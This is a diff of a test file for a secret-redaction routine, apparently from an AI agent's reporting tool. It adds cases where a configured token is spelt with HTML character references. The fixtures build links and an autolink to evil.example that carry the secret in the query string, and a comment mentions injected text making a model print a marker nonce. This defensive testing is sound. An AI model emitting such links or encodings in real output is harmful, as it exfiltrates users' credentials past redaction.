@@ -17,7 +17,8 @@ import { type FakeServer, type RecordedRequest, startOpenAIServer } from '../sup
  * - a configured secret in a report link or chart with its characters percent-encoded beyond what
  *   encodeURIComponent does (`%68%64%72…`, `hdr%2Dtoken`, lower-case hex), or base64-encoded, was
  *   kept: clicking the link sent the secret (redactSecrets only knew the raw, HTML-escaped and
- *   encodeURIComponent forms), and so was the secret upper-cased.
+ *   encodeURIComponent forms), and so was the secret upper-cased, or spelt with HTML character
+ *   references (`&#104;dr-token…`), which marked keeps in an autolink's text and a browser shows.
  * - a marking end marker spelt with a zero-width or other invisible character between the brackets
  *   (`<\u200b<end-NONCE>>`), full-width brackets (`＜＜end-NONCE＞＞`) or a Unicode dash was not
  *   defanged; the nonce is in the model's system prompt, so an obedient model told to print it
@@ -86,13 +87,27 @@ describe('a configured secret in a report or chart in another spelling', () => {
     expect(out).toContain('dashboard');
   });
 
+  const references: Record<string, string> = {
+    'a decimal character reference': `&#104;${TOKEN.slice(1)}`,
+    'hex character references': TOKEN.replace(/-/g, '&#x2d;'),
+    'every character a reference': [...TOKEN].map((char) => `&#${char.codePointAt(0)};`).join(''),
+  };
+
+  it.each(Object.entries(references))('removes it from a page when spelt with %s (a browser shows the characters)', (_name, spelled) => {
+    const page = `<p>token ${spelled}. <a href="https://evil.example/?u=${spelled}">https://evil.example/?u=${spelled}</a></p>`;
+    const out = redactSecrets(page, [TOKEN]);
+    expect(out).not.toContain(spelled);
+    expect(out).toContain('token [secret removed]');
+  });
+
   it.each(Object.entries(spellings))('removes it from a chart specification when %s', (_name, spelled) => {
     const spec = { data: { values: [{ link: `https://evil.example/c?t=${spelled}`, n: 1 }] }, encoding: { href: { field: 'link' } } };
     expect(JSON.stringify(redactJsonSecrets(spec, [TOKEN]))).not.toContain(spelled);
   });
 
   it('keeps ordinary encoded URLs and text as they were', () => {
-    const page = '<p><a href="https://example.com/search?q=caf%C3%A9%20au%20lait&amp;n=2">search</a> SGVsbG8gd29ybGQ= 100%25</p>';
+    const page =
+      '<p><a href="https://example.com/search?q=caf%C3%A9%20au%20lait&amp;n=2">search</a> SGVsbG8gd29ybGQ= 100%25 Fish &amp; Chips &#8212; caf&eacute;</p>';
     expect(redactSecrets(page, [TOKEN])).toBe(page);
   });
 
@@ -102,8 +117,10 @@ describe('a configured secret in a report or chart in another spelling', () => {
     writeFileSync(join(home, 'config.yaml'), `mcp_servers:\n  web: {type: http, url: "http://127.0.0.1:9/mcp", headers: {Authorization: "Bearer ${TOKEN}"}}\n`);
     new Database(join(work, 'x.db')).close();
     const script = join(home, 'script.json');
-    const links = Object.values(spellings).map((spelled, index) => `[link ${index}](https://evil.example/c?t=${spelled})`);
-    writeFileSync(script, JSON.stringify({ turns: [{ text: `Open ${links.join(' ')}` }] }));
+    const links = [...Object.values(spellings), `&#104;${TOKEN.slice(1)}`].map((spelled, index) => `[link ${index}](https://evil.example/c?t=${spelled})`);
+    // An autolink's text keeps character references, which a browser shows as the characters.
+    const autolink = `<https://evil.example/?u=&#104;${TOKEN.slice(1)}>`;
+    writeFileSync(script, JSON.stringify({ turns: [{ text: `Open ${links.join(' ')} ${autolink}` }] }));
     const env = cliEnv(home);
     const run = await runCli(['-m', `script:${script}`, '--db', `x=${join(work, 'x.db')}`, '-w', work, '--profile', 'readonly', 'Links?'], {
       env,
@@ -115,7 +132,8 @@ describe('a configured secret in a report or chart in another spelling', () => {
     const made = await runCli(['report', 'latest', '-o', reportPath], { env });
     expect(made.code, made.stderr).toBe(0);
     const html = readFileSync(reportPath, 'utf8');
-    for (const spelled of Object.values(spellings)) expect(html).not.toContain(spelled);
+    for (const spelled of [...Object.values(spellings), `&#104;${TOKEN.slice(1)}`]) expect(html).not.toContain(spelled);
+    expect(html).not.toContain(`?u=&#104;${TOKEN.slice(1)}`);
     expect(html).toContain('[secret removed]');
   }, 120_000);
 });
